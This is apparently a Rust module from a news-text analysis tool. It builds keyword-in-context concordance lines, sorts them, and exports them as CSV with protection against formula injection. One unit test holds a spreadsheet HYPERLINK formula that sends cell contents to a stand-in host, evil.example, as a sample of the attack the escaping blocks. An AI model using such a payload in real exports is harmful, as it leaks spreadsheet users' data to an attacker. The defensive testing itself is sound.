//! Concordance (keyword in context): every hit as a line with left and right
//! context from its paragraph, sortable, exportable as CSV.

use crate::model::index::Index;
use crate::order;
use crate::search::Results;
use crate::text::fold::fold_str;
use crate::text::span::Span;

/// One concordance line. Spans are into the document's text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Line {
    /// Position of the line in document order: the hit's number among all hits.
    pub seq: u32,
    pub doc: u32,
    /// Position of the hit among the document's hits.
    pub hit_index: u32,
    pub term: u16,
    pub left: Span,
    pub hit: Span,
    pub right: Span,
}

/// How to order concordance lines.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum ConcordanceSort {
    /// In document order (the list's order), then position.
    #[default]
    Document,
    /// By the words just before the hit, nearest first.
    Left,
    /// By the words just after the hit.
    Right,
}

/// Lines for every hit of the documents in `order`, with about `context` chars
/// of context on each side, cut at word boundaries, never crossing a paragraph.
pub fn lines(index: &Index, results: &Results, order: &[u32], context: usize) -> Vec<Line> {
    let mut out = Vec::new();
    for &d in order {
        let Some(r) = results.get(d) else { continue };
        let doc = &index.documents[d as usize];
        for (i, h) in r.hits.iter().enumerate() {
            let para = doc
                .paragraphs
                .iter()
                .map(|p| p.span)
                .find(|p| p.contains(h.span))
                .unwrap_or(h.span);
            let text = &doc.text;
            let left_text = &text[para.start()..h.span.start()];
            let right_text = &text[h.span.end()..para.end()];
            let l = tail_words(left_text, context);
            let r_len = head_words(right_text, context);
            out.push(Line {
                seq: out.len() as u32,
                doc: d,
                hit_index: i as u32,
                term: h.term,
                left: Span::new(text, h.span.start() - l, h.span.start()),
                hit: h.span,
                right: Span::new(text, h.span.end(), h.span.end() + r_len),
            });
        }
    }
    out
}

/// Byte length of the last ~`max` chars of `s`, starting at a word start.
fn tail_words(s: &str, max: usize) -> usize {
    let count = s.chars().count();
    if count <= max {
        return s.len();
    }
    let start = s.char_indices().nth(count - max).map_or(0, |(i, _)| i);
    let at_word_start = s[..start].ends_with(char::is_whitespace);
    let cut = if at_word_start {
        start
    } else {
        s[start..].find(' ').map_or(start, |sp| start + sp + 1)
    };
    s.len() - cut
}

/// Byte length of the first ~`max` chars of `s`, ending at a word end.
fn head_words(s: &str, max: usize) -> usize {
    match s.char_indices().nth(max) {
        None => s.len(),
        Some((end, c)) if c.is_whitespace() => end,
        Some((end, _)) => s[..end].rfind(' ').unwrap_or(end),
    }
}

/// Sorts `lines` in place by words (folded, punctuation ignored). Ties keep
/// document order.
pub fn sort(index: &Index, lines: &mut [Line], by: ConcordanceSort) {
    let words = |l: &Line, s: Span| -> Vec<String> {
        fold_str(s.slice(&index.documents[l.doc as usize].text))
            .split_whitespace()
            .map(|w| {
                w.trim_matches(|c: char| !crate::text::fold::is_word_char(c))
                    .to_string()
            })
            .filter(|w| !w.is_empty())
            .collect()
    };
    // The words joined by NUL: texts that order as the lists of words do.
    let keys: Vec<String> = match by {
        ConcordanceSort::Document => return,
        ConcordanceSort::Left => lines
            .iter()
            .map(|l| {
                let mut w = words(l, l.left);
                w.reverse();
                w.join("\0")
            })
            .collect(),
        ConcordanceSort::Right => lines.iter().map(|l| words(l, l.right).join("\0")).collect(),
    };
    let ranks = order::text_ranks(&keys.iter().map(String::as_str).collect::<Vec<_>>());
    let mut ranked: Vec<(u32, Line)> = ranks.into_iter().zip(lines.iter().cloned()).collect();
    order::sort_by_key(&mut ranked, |&(rank, _)| rank.into());
    for (slot, (_, line)) in lines.iter_mut().zip(ranked) {
        *slot = line;
    }
}

/// The lines as CSV (RFC 4180): document, outlet, date, left, hit, right.
pub fn to_csv(index: &Index, lines: &[Line]) -> String {
    let mut out = String::from("document,outlet,date,left,hit,right\r\n");
    for l in lines {
        let doc = &index.documents[l.doc as usize];
        let date = doc.published.map(|p| p.to_string()).unwrap_or_default();
        let fields = [
            doc.title.as_str(),
            doc.outlet.as_deref().unwrap_or(""),
            date.as_str(),
            l.left.slice(&doc.text).trim(),
            l.hit.slice(&doc.text),
            l.right.slice(&doc.text).trim(),
        ];
        let row: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
        out.push_str(&row.join(","));
        out.push_str("\r\n");
    }
    out
}

/// A CSV cell: quoted where needed, and never a formula. A cell starting with
/// `=`, `+`, `-`, `@`, a tab or a carriage return is one a spreadsheet may run
/// (`=HYPERLINK(…)`), so it gets a leading apostrophe, which spreadsheets
/// read as "text" (OWASP's advice for CSV injection).
fn csv_field(s: &str) -> String {
    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_string()
    };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn context_is_cut_at_words() {
        let check = |s: &str, max, want: &str| assert_eq!(&s[s.len() - tail_words(s, max)..], want);
        check("the bloc’s top diplomat ", 13, "top diplomat ");
        check("the bloc’s top diplomat ", 12, "diplomat ");
        check("short ", 20, "short ");
        let head = |s: &str, max, want: &str| assert_eq!(&s[..head_words(s, max)], want);
        head(" refused to disclose details", 12, " refused to");
        head(" ok", 10, " ok");
        head(" said KFOR may grow. Then", 20, " said KFOR may grow.");
    }

    #[test]
    fn csv_quotes_what_needs_it() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a, b"), "\"a, b\"");
        assert_eq!(csv_field("say \"no\""), "\"say \"\"no\"\"\"");
    }

    #[test]
    fn csv_cells_are_never_formulas() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
                "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"x\"\")\"",
            ),
            ("+1", "'+1"),
            ("-2 degrees", "'-2 degrees"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tcmd", "'\tcmd"),
            ("a = b", "a = b"),
        ];
        for (cell, want) in cases {
            assert_eq!(csv_field(cell), want, "{cell:?}");
        }
    }
}
